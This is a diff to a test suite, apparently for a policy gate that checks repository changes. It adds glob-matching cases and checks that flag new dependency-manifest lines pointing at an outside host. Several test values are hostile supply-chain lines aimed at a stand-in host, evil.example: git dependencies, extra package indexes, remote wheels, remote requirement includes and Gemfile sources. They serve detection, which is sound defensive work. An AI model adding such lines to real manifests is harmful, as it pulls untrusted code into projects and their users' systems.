@@ -18,6 +18,10 @@ describe('a glob', () => {
     ['SRC', 'src/a.ts', false],
     ['!src', 'lib/a.ts', false],
     ['src', 'src/../../x', false],
+    ['app/blog/[slug]/**', 'app/blog/[slug]/page.tsx', true],
+    ['app/blog/[slug]', 'app/blog/[slug]/page.tsx', true],
+    ['app/blog/[slug]/', 'app/blog/[slug]/page.tsx', true],
+    ['app/blog/[slug]/**', 'app/blog/other/page.tsx', false],
     ['', 'a.ts', false],
     ['./', 'a.ts', false],
   ])('%j and %s: %s', (glob, path, matches) => expect(matcher([glob])(path)).toBe(matches));
@@ -156,14 +160,29 @@ describe('a manifest', () => {
     ['requirements.txt', 'evil @ git+https://evil.example/x.git'],
     ['requirements-dev.txt', '--extra-index-url https://evil.example/simple'],
     ['pyproject.toml', 'evil = { git = "https://evil.example/x" }'],
-    ['pyproject.toml', '[[tool.uv.index]]'],
+    ['requirements/base.txt', 'evil @ git+https://evil.example/x.git'],
+    ['dev-requirements.txt', 'https://evil.example/x.whl'],
+    ['requirements.txt', '-r https://evil.example/more.txt'],
+    ['pyproject.toml', 'url = "https://evil.example/simple"'],
     ['crates/a/Cargo.toml', 'evil = { git = "https://evil.example/x" }'],
     ['Gemfile', "gem 'evil', git: 'https://evil.example/x'"],
     ['Gemfile', "source 'https://evil.example'"],
+    ['Gemfile', 'source("https://evil.example")'],
+    ['Gemfile', "gem 'evil', gist: '1234'"],
   ])('in %s is refused with %s', (path, line) => {
     const was = 'left = "1"\n';
     expect(gateOf([changed(path, was, `${was}${line}\n`)])).toEqual([`policy manifests ${path}`]);
     expect(gateOf([changed(path, `${line}\n`, `${line}\nright==2.0\n`)])).toEqual([]);
+  });
+
+  it.each([
+    ['Gemfile', 'source "https://rubygems.org"\n\ngem "rack"\n'],
+    ['Pipfile', '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\n'],
+    ['pyproject.toml', '[project.urls]\nGitHub = "https://github.com/a/b"\n'],
+    ['pyproject.toml', '[tool.coverage.run]\nsource = ["src"]\n'],
+    ['requirements.txt', '-r base.txt\nleft==1.0 ; python_version > "3.9"\n-e .\n'],
+  ])('passes as a new %s with nothing from elsewhere: %j', (path, text) => {
+    expect(gateOf([made(path, text)])).toEqual([]);
   });
 
   it('is left alone where the configuration allows it', () => {
